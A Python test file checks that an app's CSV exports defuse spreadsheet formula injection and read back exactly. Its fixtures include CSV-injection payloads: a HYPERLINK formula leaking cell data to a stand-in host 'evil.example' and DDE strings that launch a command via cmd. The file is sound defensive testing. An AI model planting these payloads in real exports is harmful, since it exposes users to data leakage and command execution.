"""CSV exports never carry a live formula, and the app reads its own CSVs back exactly (issue 10, item 6).

A cell that starts with = + - @, a tab or a carriage return is prefixed with one apostrophe (OWASP's
advice against CSV injection); `export.read_csv` strips that one apostrophe again.
"""

from __future__ import annotations

import csv
import io

import pytest

from playground import evaluation, export, replay
from playground.assistant import AssistantConfig
from playground.backend import ResponsesBackend
from playground.client import make_client

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Must come back exactly, though they look like (or are) a neutralised cell or touch none of the rules.
UNTOUCHED = ["'quoted from the start", "plain text", "a = b", "", "'=already an apostrophe formula", "''=two"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[dict[str, str]]:
    """What a spreadsheet sees: the raw cells, with no apostrophe taken off."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_inert(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(TRIGGERS), f"{column} would run as a formula: {cell!r}"


def _run(store, upstream, key, set_id: int, version) -> int:
    """Run the set to its end, one case at a time (the scripted replies answer the cases in order); its id."""
    ev = evaluation.start(
        store, lambda: ResponsesBackend(make_client(key, upstream.base_url)), set_id, version, concurrency=1
    )
    assert ev.wait(30) and ev.progress().status == "completed"
    return ev.replay_id


def test_conversation_csv_neutralises_formulas_and_reads_back_exactly(store, version):
    thread = store.create_thread(version.assistant_id, title="=cmd|' /C calc'!A0")
    texts = FORMULAS + UNTOUCHED
    for i, text in enumerate(texts):
        store.add_message(thread.id, "user" if i % 2 == 0 else "assistant", text, version_id=version.id)

    written = export.conversation_csv(store, [thread.id])
    cells = _cells(written)
    _assert_inert(cells)
    by_content = [c["content"] for c in cells]
    assert by_content[0] == "'" + FORMULAS[0]
    assert by_content[len(FORMULAS)] == UNTOUCHED[0]  # no formula: written as it is
    assert cells[0]["thread_title"] == "'=cmd|' /C calc'!A0"

    back = export.read_csv(written)
    assert [r["content"] for r in back] == texts
    assert back[0]["thread_title"] == "=cmd|' /C calc'!A0"


def test_replay_csv_neutralises_formulas_and_reads_back_exactly(store, upstream, key):
    a = store.create_assistant()
    v, _ = store.save_version(a.id, AssistantConfig(name="=HYPERLINK(1)"))
    inputs = ["=1+1", "@SUM(A1)"]
    set_id = replay.save(store, "Formulas", inputs)
    upstream.script({"text": "+cmd|' /C calc'!A0"}, {"text": "-1"})
    this = _run(store, upstream, key, set_id, v)
    upstream.script({"text": "-2"}, {"text": "-1"})
    base = _run(store, upstream, key, set_id, v)

    written = export.replay_csv(store, this, base)
    cells = _cells(written)
    _assert_inert(cells)
    assert cells[0]["version"] == "'=HYPERLINK(1) v1"
    assert cells[0]["diff"].startswith("'-")  # a diff begins with "-": a formula to a spreadsheet

    back = export.read_csv(written)
    assert [r["input"] for r in back] == inputs
    assert [r["output"] for r in back] == ["+cmd|' /C calc'!A0", "-1"]
    assert [r["baseline output"] for r in back] == ["-2", "-1"]
    assert back[0]["version"] == "=HYPERLINK(1) v1"


@pytest.mark.parametrize("value", [*FORMULAS, *UNTOUCHED, "'", "''", "'-", "=", "-", "'\t", "x=1"])
def test_one_helper_round_trips_every_cell(value):
    written = export.csv_text(["cell"], [{"cell": value}])
    [raw] = _cells(written)
    assert not raw["cell"].startswith(TRIGGERS)
    assert export.read_csv(written) == [{"cell": value}]


def test_numbers_stay_numbers():
    # A negative number is data, not a formula, when the app wrote it as a number.
    written = export.csv_text(["change"], [{"change": -3}, {"change": -0.5}])
    assert [r["change"] for r in _cells(written)] == ["-3", "-0.5"]
